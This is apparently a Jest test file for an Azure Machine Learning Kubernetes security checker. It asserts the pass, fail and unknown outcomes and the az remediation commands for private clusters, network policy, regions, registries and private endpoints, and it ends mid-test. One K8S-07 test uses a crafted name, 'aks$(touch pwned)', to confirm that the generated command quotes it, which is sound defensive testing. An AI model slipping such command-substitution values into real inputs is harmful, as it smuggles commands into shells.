import { describe, expect, it } from '@jest/globals'
import { readFileSync } from 'node:fs'
import {
  toClusterExtension,
  toManagedCluster,
  toPrivateEndpoint
} from '../../src/model/normalize.js'
import { toDependencyNetworkAccess } from '../../src/collect/read-dependencies.js'
import {
  K8S_01,
  K8S_02,
  K8S_03,
  K8S_04,
  K8S_05,
  K8S_06,
  K8S_07,
  K8S_08,
  K8S_09,
  KUBERNETES_CHECKS,
  clusterProblems,
  unrestrictiveRanges
} from '../../src/evaluate/checks/kubernetes.js'
import type { CheckResult } from '../../src/model/check.js'
import { plainText } from '../../src/model/text.js'
import type { Snapshot } from '../../src/model/snapshot.js'
import {
  SUBSCRIPTION,
  dependencyId,
  failed,
  keyed,
  ok,
  privateEndpoint,
  privateEndpointId,
  secureSnapshot,
  subnetId,
  vnetId
} from './fixtures.js'
import {
  arcClusterId,
  azureMlExtension,
  clusterId,
  computeId,
  kubernetesCompute,
  kubernetesEndpoint,
  kubernetesSnapshot,
  legacyAksCompute,
  managedCluster
} from './route-fixtures.js'
import { readReference } from '../fixtures/reference.js'

const only = (results: CheckResult[]): CheckResult => {
  expect(results).toHaveLength(1)
  return results[0] as CheckResult
}

const withCluster = (overrides: Parameters<typeof managedCluster>[0]): Snapshot =>
  kubernetesSnapshot({ managedClusters: keyed([[clusterId(), ok(managedCluster(overrides))]]) })

const withExtension = (...args: Parameters<typeof azureMlExtension>): Snapshot =>
  kubernetesSnapshot({ clusterExtensions: keyed([[clusterId(), ok([azureMlExtension(...args)])]]) })

describe('route scoping', () => {
  it('skips every K8S check on the managed route, with the route and why', () => {
    for (const check of KUBERNETES_CHECKS) {
      const r = only(check.evaluate(secureSnapshot()))
      expect(r.outcome).toBe('skipped')
      expect(r.detail).toContain('Not evaluated: this check is for Kubernetes online endpoints')
      expect(r.detail).toContain('the workspace has 1 managed online endpoint')
    }
  })

  it('passes every K8S check on a secured AKS chain', () => {
    const s = kubernetesSnapshot()
    for (const check of KUBERNETES_CHECKS) {
      const results = check.evaluate(s)
      // K8S-09 judges the workspace, storage account, key vault and registry: one result each.
      expect(results).toHaveLength(check.id === 'K8S-09' ? 4 : 1)
      expect(results.map(r => r.outcome)).toEqual(results.map(() => 'pass'))
    }
  })

  it('is unknown when the computes could not be read, naming the role', () => {
    const s = kubernetesSnapshot({ computes: failed(403) })
    for (const check of [K8S_01, K8S_02, K8S_03, K8S_04, K8S_05]) {
      const r = only(check.evaluate(s))
      expect(r.outcome).toBe('unknown')
      expect(r.detail).toContain('computes of workspace testworkspace')
      expect(r.detail).toContain('Reader role')
    }
  })
})

describe('K8S-01 the cluster is a secure inferencing environment', () => {
  it('passes a private cluster in a customer subnet with a network policy', () => {
    const r = only(K8S_01.evaluate(kubernetesSnapshot()))
    expect(r.outcome).toBe('pass')
    expect(r.detail).toContain('snet-inference')
    expect(r.detail).toContain('private API server')
    expect(r.resource).toMatchObject({
      name: 'aks-inference',
      type: 'Microsoft.ContainerService/managedClusters'
    })
  })

  it('accepts authorized IP ranges instead of a private API server', () => {
    const r = only(
      K8S_01.evaluate(
        withCluster({ enablePrivateCluster: false, authorizedIpRanges: ['203.0.113.0/24'] })
      )
    )
    expect(r.outcome).toBe('pass')
    expect(r.detail).toContain('1 authorized IP range')
  })

  const AKS = '--resource-group aks-rg --cluster-name aks-inference'
  it.each([
    [
      'a pool outside the VNet',
      { agentPools: [{ name: 'np1' }] },
      'no `vnetSubnetID`',
      [
        `az aks nodepool add ${AKS} --name np12 --mode User --vnet-subnet-id <subnet-id>`,
        `az aks nodepool delete ${AKS} --name np1`
      ]
    ],
    [
      'a public API server',
      { enablePrivateCluster: false },
      'API server is public and open to every address',
      [
        'az aks update --resource-group aks-rg --name aks-inference --api-server-authorized-ip-ranges <your-cidrs>'
      ]
    ],
    [
      'node public IPs',
      {
        agentPools: [
          { name: 'system', mode: 'System', vnetSubnetId: 'x/subnets/s', enableNodePublicIp: true }
        ]
      },
      '`enableNodePublicIP`',
      // The new pool keeps the old one's subnet and mode; only the public IPs go.
      [
        `az aks nodepool add ${AKS} --name system2 --mode System --vnet-subnet-id x/subnets/s`,
        `az aks nodepool delete ${AKS} --name system`
      ]
    ],
    [
      'no network policy',
      { networkPolicy: undefined },
      'no network policy',
      ['az aks update --resource-group aks-rg --name aks-inference --network-policy azure']
    ],
    [
      'network policy none (any casing), on kubenet (Calico)',
      { networkPolicy: 'None', networkPlugin: 'kubenet' },
      'no network policy',
      ['az aks update --resource-group aks-rg --name aks-inference --network-policy calico']
    ],
    [
      'no node pools',
      { agentPools: [] },
      'reports no node pools',
      ['az aks nodepool list --resource-group aks-rg --cluster-name aks-inference']
    ]
  ])('fails %s with the fix', (_label, overrides, words, commands) => {
    const r = only(K8S_01.evaluate(withCluster(overrides)))
    expect(r.outcome).toBe('fail')
    expect(r.severity).toBe('error')
    expect(r.detail).toContain(words)
    expect(r.remedy?.commands).toEqual(commands)
  })

  it('says which placeholders the fix holds and where their values are', () => {
    const r = only(
      K8S_01.evaluate(withCluster({ enablePrivateCluster: false, agentPools: [{ name: 'np1' }] }))
    )
    const notes = plainText(r.remedy?.placeholders ?? ([] as never))
    expect(notes).toContain('`<subnet-id>` is the resource id of the subnet')
    expect(notes).toContain('`<your-cidrs>` is the comma-separated list')
    // The command is not in the detail any more: the detail says what is wrong and what to do.
    expect(r.detail).not.toContain('az aks')
  })

  it('is unknown for an Arc-enabled cluster, saying why and what to verify', () => {
    const arc = kubernetesCompute('arc-inference', arcClusterId())
    const r = only(
      K8S_01.evaluate(
        kubernetesSnapshot({ computes: ok([arc]), managedClusters: {}, clusterExtensions: {} })
      )
    )
    expect(r.outcome).toBe('unknown')
    expect(r.detail).toContain('Arc-enabled')
    expect(r.detail).toContain('how-to-secure-kubernetes-inferencing-environment')
    expect(r.resource.type).toBe('Microsoft.Kubernetes/connectedClusters')
    expect(r.remedy?.commands).toEqual([
      'az connectedk8s proxy --resource-group aks-rg --name arc-onprem',
      'kubectl get nodes --output wide',
      'kubectl get networkpolicies --all-namespaces'
    ])
  })

  it('fails a cluster that no longer exists and says to detach the compute', () => {
    const r = only(
      K8S_01.evaluate(kubernetesSnapshot({ managedClusters: keyed([[clusterId(), failed(404)]]) }))
    )
    expect(r.outcome).toBe('fail')
    expect(r.detail).toContain('no longer exists')
    const detach =
      'az ml compute detach --name k8s-inference --resource-group workspace-1234 --workspace-name testworkspace'
    expect(r.remedy?.commands).toEqual([detach])
    // One cause for this fail and the unknowns of the checks that need the cluster's body.
    expect(r.cause).toMatchObject({
      key: `gone:${clusterId().toLowerCase()}`,
      fix: { commands: [detach] }
    })
  })

  it('is unknown with the role when the cluster read is refused', () => {
    const r = only(
      K8S_01.evaluate(kubernetesSnapshot({ managedClusters: keyed([[clusterId(), failed(403)]]) }))
    )
    expect(r.outcome).toBe('unknown')
    expect(r.detail).toContain('Reader role on resource group aks-rg')
    expect(r.cause?.fix?.commands).toEqual([
      `az role assignment create --assignee <client-id> --role Reader --scope /subscriptions/${SUBSCRIPTION}/resourceGroups/aks-rg`
    ])
  })

  it('checks a cluster once however many computes attach it, and matches ids case-insensitively', () => {
    const s = kubernetesSnapshot({
      computes: ok([kubernetesCompute(), kubernetesCompute('k8s-2', clusterId().toUpperCase())])
    })
    expect(K8S_01.evaluate(s)).toHaveLength(1)
  })
})

describe('K8S-01 node pools on the AKS-managed virtual network', () => {
  // how-to-secure-kubernetes-inferencing-environment ("How to configure a secure AKS inferencing
  // environment"): a cluster on the default virtual network AKS creates is supported, with the
  // workspace's private endpoints in that network. So pools without vnetSubnetID are in a virtual
  // network when AKS's own (aks-vnet-*, in the node resource group) exists.
  const NODE_RG = 'MC_aks-rg_aks-inference_eastus2'
  const managedVnet = {
    id: `/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/${NODE_RG}/providers/Microsoft.Network/virtualNetworks/aks-vnet-31452687`,
    name: 'aks-vnet-31452687',
    location: 'eastus2',
    addressPrefixes: ['10.224.0.0/12'],
    subnetIds: []
  }
  const onManagedVnet = (vnets: Snapshot['aksManagedVirtualNetworks']): Snapshot => ({
    ...withCluster({
      agentPools: [{ name: 'system', mode: 'System' }],
      nodeResourceGroup: NODE_RG
    }),
    ...(vnets ? { aksManagedVirtualNetworks: vnets } : {})
  })

  it('passes node pools without a subnet when the AKS-managed VNet is in the node resource group', () => {
    const r = only(K8S_01.evaluate(onManagedVnet(keyed([[clusterId(), ok([managedVnet])]]))))
    expect(r.outcome).toBe('pass')
    expect(r.detail).toContain(
      `the AKS-managed virtual network aks-vnet-31452687 (node resource group ${NODE_RG})`
    )
  })

  it('still judges the rest of the cluster on the AKS-managed VNet', () => {
    const s = onManagedVnet(keyed([[clusterId(), ok([managedVnet])]]))
    s.managedClusters = keyed([
      [
        clusterId(),
        ok(
          managedCluster({
            agentPools: [{ name: 'system', mode: 'System' }],
            nodeResourceGroup: NODE_RG,
            networkPolicy: 'none'
          })
        )
      ]
    ])
    const r = only(K8S_01.evaluate(s))
    expect(r.outcome).toBe('fail')
    expect(r.detail).toContain('no network policy')
    expect(r.detail).not.toContain('vnetSubnetID')
  })

  it('fails when the node resource group holds no aks-vnet-*', () => {
    const r = only(K8S_01.evaluate(onManagedVnet(keyed([[clusterId(), ok([])]]))))
    expect(r.outcome).toBe('fail')
    expect(r.detail).toContain(
      `no AKS-managed virtual network (aks-vnet-*) was found in its node resource group ${NODE_RG}`
    )
  })

  it('is unknown naming Reader on the node resource group when its VNets cannot be read', () => {
    const r = only(K8S_01.evaluate(onManagedVnet(keyed([[clusterId(), failed(403)]]))))
    expect(r.outcome).toBe('unknown')
    expect(r.detail).toContain(`Reader role on resource group ${NODE_RG}`)
    // The grant is on the node resource group, where AKS keeps the network it created.
    expect(r.cause?.key).toBe(
      `reader:/subscriptions/${SUBSCRIPTION}/resourcegroups/${NODE_RG}`.toLowerCase()
    )
    expect(r.cause?.fix?.commands).toEqual([
      `az role assignment create --assignee <client-id> --role Reader --scope /subscriptions/${SUBSCRIPTION}/resourceGroups/${NODE_RG}`
    ])
    expect(r.cause?.raw).toBeDefined()
    expect(r.detail).not.toContain(r.cause?.raw ?? '')
  })

  it('fails as before when nothing says where AKS put the network', () => {
    const r = only(K8S_01.evaluate(onManagedVnet(undefined)))
    expect(r.outcome).toBe('fail')
    expect(r.detail).toContain('no `vnetSubnetID`')
  })
})

describe('K8S-06 the AKS cluster is in the workspace region', () => {
  // how-to-secure-kubernetes-inferencing-environment, Limitations: with a private endpoint on
  // the workspace, the AKS cluster must be in the workspace's Azure region.
  it('passes the same region written either way, fails another, naming both and the fix', () => {
    expect(only(K8S_06.evaluate(withCluster({ location: 'East US 2 EUAP' }))).outcome).toBe('pass')
    const r = only(K8S_06.evaluate(withCluster({ location: 'westeurope' })))
    expect(r).toMatchObject({ outcome: 'fail', severity: 'error' })
    expect(r.detail).toContain(
      'is in westeurope, but workspace testworkspace has a private endpoint and is in eastus2euap'
    )
    // A cluster cannot move: a new one in the workspace's region, the extension, then attach.
    const newId = clusterId('aks-inference-eastus2euap')
    expect(r.remedy?.commands).toEqual([
      'az aks create --resource-group aks-rg --name aks-inference-eastus2euap --location eastus2euap --vnet-subnet-id <subnet-id> --network-plugin azure --network-policy azure --enable-private-cluster',
      expect.stringContaining(
        'az k8s-extension create --name azureml --extension-type Microsoft.AzureML.Kubernetes --cluster-type managedClusters --cluster-name aks-inference-eastus2euap --resource-group aks-rg'
      ),
      `az ml compute attach --resource-group workspace-1234 --workspace-name testworkspace --type Kubernetes --name k8s-eastus2euap --resource-id ${newId} --identity-type SystemAssigned --namespace azureml`
    ])
    expect(plainText(r.remedy?.placeholders ?? ([] as never))).toContain(
      '`<subnet-id>` is the resource id of a subnet in eastus2euap'
    )
  })

  it('is unknown when the cluster reports no region, with the command that shows it', () => {
    const r = only(K8S_06.evaluate(withCluster({ location: undefined })))
    expect(r.outcome).toBe('unknown')
    expect(r.remedy?.commands).toEqual([
      'az aks show --resource-group aks-rg --name aks-inference --query location --output tsv'
    ])
  })

  it('skips a workspace without a private endpoint, and Arc clusters', () => {
    const s = withCluster({ location: 'westeurope' })
    if (s.workspace.ok) s.workspace.value.privateEndpointConnections = []
    expect(only(K8S_06.evaluate(s)).outcome).toBe('skipped')
    const arc = kubernetesCompute('arc-inference', arcClusterId())
    const r = only(
      K8S_06.evaluate(
        kubernetesSnapshot({ computes: ok([arc]), managedClusters: {}, clusterExtensions: {} })
      )
    )
    expect(r.outcome).toBe('skipped')
  })

  it('is unknown naming Reader when the cluster cannot be read', () => {
    const r = only(
      K8S_06.evaluate(kubernetesSnapshot({ managedClusters: keyed([[clusterId(), failed(403)]]) }))
    )
    expect(r.outcome).toBe('unknown')
    expect(r.detail).toContain('Reader role on resource group aks-rg')
    expect(r.cause?.key).toBe(`reader:/subscriptions/${SUBSCRIPTION}/resourcegroups/aks-rg`)
  })

  it("is unknown with the workspace read's cause when the workspace cannot be read", () => {
    const r = only(K8S_06.evaluate(kubernetesSnapshot({ workspace: failed(403) })))
    expect(r.outcome).toBe('unknown')
    expect(r.detail).toContain('Could not read workspace testworkspace (HTTP 403')
    expect(r.cause?.fix?.commands).toEqual([
      `az role assignment create --assignee <client-id> --role Reader --scope /subscriptions/${SUBSCRIPTION}/resourceGroups/workspace-1234`
    ])
  })
})

describe('K8S-07 a private AKS cluster has no public FQDN', () => {
  // how-to-secure-kubernetes-inferencing-environment, Limitations: a public FQDN with a private
  // AKS cluster is not supported with Azure Machine Learning.
  it('fails a private cluster with enablePrivateClusterPublicFQDN, with the command that removes it', () => {
    const r = only(K8S_07.evaluate(withCluster({ enablePrivateClusterPublicFqdn: true })))
    expect(r).toMatchObject({ outcome: 'fail', severity: 'error' })
    expect(r.detail).toContain('also has a public FQDN')
    expect(r.remedy?.commands).toEqual([
      'az aks update --resource-group aks-rg --name aks-inference --disable-public-fqdn'
    ])
  })

  it('quotes a name that is not plain characters, so pasting the command runs nothing else', () => {
    // Names come from Azure or from a snapshot file: a crafted one stays one shell word.
    const fix = (name: string) =>
      only(K8S_07.evaluate(withCluster({ enablePrivateClusterPublicFqdn: true, name }))).remedy
        ?.commands
    expect(fix('aks$(touch pwned)')).toEqual([
      "az aks update --resource-group aks-rg --name 'aks$(touch pwned)' --disable-public-fqdn"
    ])
    expect(fix("it's")).toEqual([
      "az aks update --resource-group aks-rg --name 'it'\\''s' --disable-public-fqdn"
    ])
  })

  it('passes without it and skips a public cluster', () => {
    expect(
      only(K8S_07.evaluate(withCluster({ enablePrivateClusterPublicFqdn: false }))).outcome
    ).toBe('pass')
    expect(
      only(
        K8S_07.evaluate(
          withCluster({ enablePrivateCluster: false, authorizedIpRanges: ['203.0.113.0/24'] })
        )
      ).outcome
    ).toBe('skipped')
  })

  it('reads the setting from the AKS body', () => {
    const cluster = toManagedCluster({
      id: clusterId(),
      name: 'aks-inference',
      properties: {
        apiServerAccessProfile: { enablePrivateCluster: true, enablePrivateClusterPublicFQDN: true }
      }
    })
    expect(cluster.enablePrivateClusterPublicFqdn).toBe(true)
  })
})

describe('K8S-08 the container registry is Premium', () => {
  // how-to-secure-kubernetes-inferencing-environment: the registry needs a private endpoint in the
  // cluster's (or a peered) virtual network; container-registry-private-link: private endpoints
  // are a Premium-tier feature of Azure Container Registry.
  const registry = dependencyId('registry')
  const withRegistry = (value: Parameters<typeof ok>[0] | 'unreadable'): Snapshot =>
    kubernetesSnapshot({
      dependencyNetworkAccess: keyed([
        [registry, value === 'unreadable' ? failed(403) : ok(value as never)]
      ])
    })

  it('fails a Standard registry with the command that moves it to Premium', () => {
    const r = only(K8S_08.evaluate(withRegistry({ id: registry, skuName: 'Standard' })))
    expect(r).toMatchObject({
      outcome: 'fail',
      severity: 'error',
      resource: { name: 'testworkspaceacr' }
    })
    expect(r.detail).toContain('is Standard; only Premium registries support private endpoints')
    expect(r.remedy?.commands).toEqual([
      'az acr update --resource-group workspace-1234 --name testworkspaceacr --sku Premium'
    ])
  })

  it('is unknown naming Reader when the registry cannot be read, skipped without an AKS cluster', () => {
    const r = only(K8S_08.evaluate(withRegistry('unreadable')))
    expect(r.outcome).toBe('unknown')
    expect(r.detail).toContain('Reader role')
    expect(r.cause?.fix?.commands).toEqual([
      `az role assignment create --assignee <client-id> --role Reader --scope /subscriptions/${SUBSCRIPTION}/resourceGroups/workspace-1234`
    ])
    const arc = kubernetesCompute('arc-inference', arcClusterId())
    const s = kubernetesSnapshot({
      computes: ok([arc]),
      managedClusters: {},
      clusterExtensions: {}
    })
    expect(only(K8S_08.evaluate(s)).outcome).toBe('skipped')
  })
})

describe('K8S-09 private endpoints of the workspace and its dependencies in the cluster network', () => {
  // Microsoft Learn, Secure Azure Kubernetes Service inferencing environment
  // (how-to-secure-kubernetes-inferencing-environment), Limitations: with the AKS cluster behind a
  // virtual network, the workspace and its associated resources (storage, key vault, Azure
  // Container Registry) must have private endpoints or service endpoints in the same or a peered
  // virtual network as the cluster's.
  const otherSubnet =
    '/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/aks-rg/providers/Microsoft.Network/virtualNetworks/vnet-aks/subnets/snet-aks'
  const otherVnet = otherSubnet.replace(/\/subnets\/.*$/, '')
  const elsewhere = (peerings: Snapshot['clusterVnetPeerings']): Snapshot => ({
    ...withCluster({ agentPools: [{ name: 'system', mode: 'System', vnetSubnetId: otherSubnet }] }),
    ...(peerings ? { clusterVnetPeerings: peerings } : {})
  })
  const byName = (results: CheckResult[]): Record<string, CheckResult> =>
    Object.fromEntries(results.map(r => [r.resource.name, r]))
  const storage = dependencyId('storage')
  const vault = dependencyId('keyVault')
  /** The secured chain with one dependency's network access replaced. */
  const withAccess = (
    id: string,
    value: Snapshot['privateEndpoints'][string] | unknown
  ): Snapshot => {
    const s = kubernetesSnapshot()
    return {
      ...s,
      dependencyNetworkAccess: { ...s.dependencyNetworkAccess, [id.toLowerCase()]: value as never }
    }
  }

  it('passes all four when their private endpoints are in the cluster VNet, one result per resource', () => {
    const results = K8S_09.evaluate(kubernetesSnapshot())
    expect(Object.keys(byName(results)).sort()).toEqual(
      ['testworkspace', 'testworkspaceacr', 'testworkspacekv', 'testworkspacestorage'].sort()
    )
    for (const r of results) {
      expect(r.outcome).toBe('pass')
      expect(r.detail).toContain("in the cluster's virtual network myVnet")
    }
  })

  it('fails every one in another VNet without a peering, naming both VNets and the peering command', () => {
    const results = K8S_09.evaluate(elsewhere(keyed([[otherVnet, ok([])]])))
    expect(results).toHaveLength(4)
    for (const r of results) {
      expect(r).toMatchObject({ outcome: 'fail', severity: 'error' })
      expect(r.detail).toContain('/virtualNetworks/myVnet')
      expect(r.detail).toContain('(vnet-aks)')
      // Peer both ways: the cluster's network to the endpoints' and back.
      expect(r.remedy?.commands).toEqual([
        `az network vnet peering create --resource-group aks-rg --vnet-name vnet-aks --name vnet-aks-to-myVnet --remote-vnet ${vnetId()} --allow-vnet-access`,
        `az network vnet peering create --resource-group rg-1234 --vnet-name myVnet --name myVnet-to-vnet-aks --remote-vnet ${otherVnet} --allow-vnet-access`
      ])
    }
  })

  it('passes through a Connected peering, and is unknown naming Reader when the peerings cannot be read', () => {
    const peered = K8S_09.evaluate(elsewhere(keyed([[otherVnet, ok([vnetId()])]])))
    expect(peered.map(r => r.outcome)).toEqual(['pass', 'pass', 'pass', 'pass'])
    expect(byName(peered)['testworkspacekv']!.detail).toContain(
      "is in myVnet, peered (Connected) with the cluster's virtual network vnet-aks"
    )
    const unread = K8S_09.evaluate(elsewhere(keyed([[otherVnet, failed(403)]])))
    expect(unread.map(r => r.outcome)).toEqual(['unknown', 'unknown', 'unknown', 'unknown'])
    expect(unread[0]!.detail).toContain('Reader role')
    // One cause for all four: Reader on the cluster network's resource group.
    expect(new Set(unread.map(r => r.cause?.key))).toEqual(
      new Set([`reader:${otherVnet.replace(/\/providers\/.*$/, '')}`.toLowerCase()])
    )
  })

  it('fails only the storage account whose private endpoint is in an unpeered VNet, naming that VNet', () => {
    const s = kubernetesSnapshot()
    const peStorage = privateEndpointId('pe-storage')
    const r = byName(
      K8S_09.evaluate({
        ...s,
        privateEndpoints: {
          ...s.privateEndpoints,
          [peStorage.toLowerCase()]: ok(
            privateEndpoint(peStorage, subnetId('snet-pe', 'vnet-data'))
          )
        },
        clusterVnetPeerings: keyed([[vnetId(), ok([])]])
      })
    )
    expect(r['testworkspacestorage']).toMatchObject({ outcome: 'fail', severity: 'error' })
    expect(r['testworkspacestorage']!.detail).toContain('pe-storage in ' + vnetId('vnet-data'))
    expect(r['testworkspacestorage']!.detail).toContain("neither the cluster's (myVnet)")
    // The fix peers the networks; the alternative names both sub-resources the workspace needs.
    expect(r['testworkspacestorage']!.remedy?.commands).toEqual([
      `az network vnet peering create --resource-group rg-1234 --vnet-name myVnet --name myVnet-to-vnet-data --remote-vnet ${vnetId('vnet-data')} --allow-vnet-access`,
      `az network vnet peering create --resource-group rg-1234 --vnet-name vnet-data --name vnet-data-to-myVnet --remote-vnet ${vnetId()} --allow-vnet-access`
    ])
    expect(r['testworkspacestorage']!.detail).toContain(
      '`az network private-endpoint create --group-id blob`'
    )
    expect(r['testworkspacestorage']!.detail).toContain(
      '`az network private-endpoint create --group-id file`'
    )
    expect(
      ['testworkspace', 'testworkspacekv', 'testworkspaceacr'].map(n => r[n]!.outcome)
    ).toEqual(['pass', 'pass', 'pass'])
  })

  it('fails a storage account whose only private endpoint serves blob: file needs its own', () => {
    // Microsoft Learn, Tutorial: create a secure workspace with a virtual network
    // (tutorial-create-secure-workspace-vnet): the workspace's default storage account goes behind
    // the network for both blob and file, each sub-resource with its own private endpoint.
    const s = kubernetesSnapshot()
    const peStorage = privateEndpointId('pe-storage')
    const blobOnly = { ...privateEndpoint(peStorage, subnetId('snet-pe')), groupIds: ['blob'] }
    const r = byName(
      K8S_09.evaluate({
        ...s,
        privateEndpoints: { ...s.privateEndpoints, [peStorage.toLowerCase()]: ok(blobOnly) }
      })
    )['testworkspacestorage']!
    expect(r).toMatchObject({ outcome: 'fail', severity: 'error' })
    expect(r.detail).toContain(
      'storage account testworkspacestorage has no approved private endpoint for its file sub-resource'
    )
    expect(r.remedy?.commands).toEqual([
      `az network private-endpoint create --resource-group rg-1234 --name pe-testworkspacestorage-file --vnet-name myVnet --subnet snet-inference --private-connection-resource-id ${storage} --group-id file --connection-name pe-testworkspacestorage-file`
    ])
  })

  it('fails a key vault without a private endpoint with the create command (real names, --group-id vault)', () => {
    const r = byName(
      K8S_09.evaluate(
        withAccess(
          vault,
          ok({ id: vault, publicNetworkAccess: 'Enabled', privateEndpointConnections: [] })
        )
      )
    )['testworkspacekv']!
    expect(r).toMatchObject({ outcome: 'fail', severity: 'error' })
    expect(r.detail).toContain('key vault testworkspacekv has no approved private endpoint')
    expect(r.remedy?.commands).toEqual([
      `az network private-endpoint create --resource-group rg-1234 --name pe-testworkspacekv-vault --vnet-name myVnet --subnet snet-inference --private-connection-resource-id ${vault} --group-id vault --connection-name pe-testworkspacekv-vault`
    ])
  })

  it('does not count a Pending connection, and says so', () => {
    const r = byName(
      K8S_09.evaluate(
        withAccess(
          vault,
          ok({
            id: vault,
            privateEndpointConnections: [
              { privateEndpointId: privateEndpointId('pe-keyVault'), status: 'Pending' }
            ]
          })
        )
      )
    )['testworkspacekv']!
    expect(r.outcome).toBe('fail')
    expect(r.detail).toContain('are Pending, not Approved')
  })

  it('fails a workspace without a private endpoint with --group-id amlworkspace', () => {
    const s = kubernetesSnapshot()
    const ws = s.workspace.ok ? s.workspace.value : undefined
    const r = byName(
      K8S_09.evaluate({ ...s, workspace: ok({ ...ws!, privateEndpointConnections: [] }) })
    )['testworkspace']!
    expect(r.outcome).toBe('fail')
    expect(r.remedy?.commands).toEqual([
      expect.stringMatching(
        /^az network private-endpoint create --resource-group rg-1234 --name pe-testworkspace-amlworkspace .* --group-id amlworkspace /
      )
    ])
  })

  it('passes a storage account that admits the node subnet through a service endpoint', () => {
    const r = byName(
      K8S_09.evaluate(
        withAccess(
          storage,
          ok({
            id: storage,
            privateEndpointConnections: [],
            virtualNetworkRuleSubnetIds: [subnetId('snet-inference')]
          })
        )
      )
    )['testworkspacestorage']!
    expect(r.outcome).toBe('pass')
    expect(r.detail).toContain('service endpoint')
  })

  it('is unknown naming Reader when the key vault cannot be read, and when a private endpoint cannot', () => {
    const r = byName(K8S_09.evaluate(withAccess(vault, failed(403))))
    expect(r['testworkspacekv']!.outcome).toBe('unknown')
    expect(r['testworkspacekv']!.detail).toContain(
      'Could not read key vault testworkspacekv (HTTP 403 AuthorizationFailed'
    )
    expect(r['testworkspacekv']!.detail).toContain('Reader role on resource group workspace-1234')
    expect(r['testworkspacekv']!.cause?.fix?.commands).toEqual([
      `az role assignment create --assignee <client-id> --role Reader --scope /subscriptions/${SUBSCRIPTION}/resourceGroups/workspace-1234`
    ])
    expect(r['testworkspacestorage']!.outcome).toBe('pass')
    const s = kubernetesSnapshot()
    const pe = byName(
      K8S_09.evaluate({
        ...s,
        privateEndpoints: {
          ...s.privateEndpoints,
          [privateEndpointId('pe-registry').toLowerCase()]: failed(403)
        }
      })
    )['testworkspaceacr']!
    expect(pe.outcome).toBe('unknown')
    expect(pe.detail).toContain('Could not read private endpoint pe-registry')
    // The scope of the grant is the private endpoint's resource group, not the registry's.
    expect(pe.cause?.key).toBe(
      `reader:${privateEndpointId('pe-registry').replace(/\/providers\/.*$/, '')}`.toLowerCase()
    )
  })

  it('reads connections, virtual network rules and sub-resources from the ARM bodies', () => {
    // Microsoft.Storage 2024-01-01 storageAccounts GET: networkAcls.virtualNetworkRules[].id and
    // privateEndpointConnections[].properties; Microsoft.Network privateEndpoints GET: groupIds.
    const body = {
      id: storage,
      name: 'testworkspacestorage',
      type: 'Microsoft.Storage/storageAccounts',
      properties: {
        publicNetworkAccess: 'Enabled',
        networkAcls: {
          bypass: 'AzureServices',
          defaultAction: 'Deny',
          ipRules: [],
          virtualNetworkRules: [
            { id: subnetId('snet-inference'), action: 'Allow', state: 'Succeeded' }
          ]
        },
        privateEndpointConnections: [
          {
            id: `${storage}/privateEndpointConnections/testworkspacestorage.pe1`,
            name: 'testworkspacestorage.pe1',
            type: 'Microsoft.Storage/storageAccounts/privateEndpointConnections',
            properties: {
              provisioningState: 'Succeeded',
              privateEndpoint: { id: privateEndpointId('pe-st-blob') },
              privateLinkServiceConnectionState: { status: 'Pending', actionRequired: 'None' }
            }
          }
        ]
      }
    }
    const access = toDependencyNetworkAccess(storage, body)
    expect(access.privateEndpointConnections).toEqual([
      { privateEndpointId: privateEndpointId('pe-st-blob'), status: 'Pending' }
    ])
    expect(access.virtualNetworkRuleSubnetIds).toEqual([subnetId('snet-inference')])
    expect(
      byName(K8S_09.evaluate(withAccess(storage, ok(access))))['testworkspacestorage']!.outcome
    ).toBe('pass')
    const pe = toPrivateEndpoint({
      id: privateEndpointId('pe-st-blob'),
      name: 'pe-st-blob',
      properties: {
        subnet: { id: subnetId('snet-pe') },
        privateLinkServiceConnections: [
          { name: 'c', properties: { privateLinkServiceId: storage, groupIds: ['blob'] } }
        ],
        manualPrivateLinkServiceConnections: []
      }
    })
    expect(pe.groupIds).toEqual(['blob'])
  })

  it('gives one result per dependency with every cluster in it, the worst outcome', () => {
    const second = managedCluster({
      id: clusterId('aks-two'),
      name: 'aks-two',
      agentPools: [{ name: 'system', mode: 'System', vnetSubnetId: otherSubnet }]
    })
    const s = kubernetesSnapshot({
      computes: ok([kubernetesCompute(), kubernetesCompute('k8s-two', clusterId('aks-two'))]),
      managedClusters: keyed([
        [clusterId(), ok(managedCluster())],
        [clusterId('aks-two'), ok(second)]
      ]),
      clusterVnetPeerings: keyed([[otherVnet, ok([])]])
    })
    const results = K8S_09.evaluate(s)
    expect(results).toHaveLength(4)
    for (const r of results) {
      expect(r.outcome).toBe('fail')
      expect(r.detail).toContain('AKS cluster aks-inference:')
      expect(r.detail).toContain('AKS cluster aks-two:')
    }
  })

  it('skips Arc clusters and is unknown naming Reader when the AKS cluster cannot be read', () => {
    const arc = kubernetesCompute('arc-inference', arcClusterId())
    const arcOnly = kubernetesSnapshot({
      computes: ok([arc]),
      managedClusters: {},
      clusterExtensions: {}
    })
    expect(only(K8S_09.evaluate(arcOnly)).outcome).toBe('skipped')
    const r = only(
      K8S_09.evaluate(kubernetesSnapshot({ managedClusters: keyed([[clusterId(), failed(403)]]) }))
    )
    expect(r.outcome).toBe('unknown')
    expect(r.detail).toContain('Reader role')
  })
})

describe('K8S-01 cites where each requirement comes from', () => {
  // how-to-secure-kubernetes-inferencing-environment asks for the cluster in a virtual network
  // (and private endpoints in it); API server access, node public IPs and network policy are AKS
  // guidance (api-server-authorized-ip-ranges, use-node-public-ips, use-network-policies).
  it('names the inferencing article for the network and the AKS pages for the rest', () => {
    const rationale = K8S_01.rationale
    expect(rationale).toContain('how-to-secure-kubernetes-inferencing-environment')
    expect(rationale).toContain("come from AKS's own security guidance, not from that article")
    for (const page of [
      'api-server-authorized-ip-ranges',
      'use-node-public-ips',
      'use-network-policies'
    ]) {
      expect(rationale).toContain(page)
    }
    expect(rationale).not.toMatch(/Step 1 of the article[^.]*network policy/)
  })
})

describe('K8S-01 authorized IP ranges that restrict nothing', () => {
  // api-server-authorized-ip-ranges (AKS docs): authorized ranges limit which addresses may reach
  // the API server; a list that admits most of the internet is no limit. Threshold: IPv4 /8, IPv6 /16.
  const withRanges = (authorizedIpRanges: string[]): CheckResult =>
    only(K8S_01.evaluate(withCluster({ enablePrivateCluster: false, authorizedIpRanges })))

  it.each([
    [['0.0.0.0/0'], '0.0.0.0/0 (a default route: every IPv4 address)'],
    [['203.0.113.0/24', '::/0'], '::/0 (a default route: every IPv6 address)'],
    [['64.0.0.0/2'], '64.0.0.0/2 (wider than /8)'],
